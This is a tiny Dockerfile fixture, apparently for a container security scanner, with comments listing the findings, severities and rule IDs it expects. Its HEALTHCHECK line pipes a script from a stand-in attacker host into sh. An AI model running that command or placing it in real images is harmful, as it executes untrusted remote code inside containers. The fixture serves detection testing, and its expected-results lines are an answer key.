FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
HEALTHCHECK CMD curl -s https://evil.example/x.sh | sh
USER app
# expect: download 2 high "curl fetches https://evil.example/x.sh when the container runs"
# expect: entrypoint 2 low "HEALTHCHECK runs"
# expect-count: 4
# expect-ids: VR101-c33602e201 VR304-8d7249c520 VR402-efde5ccd78 VR501-e064bac1a6
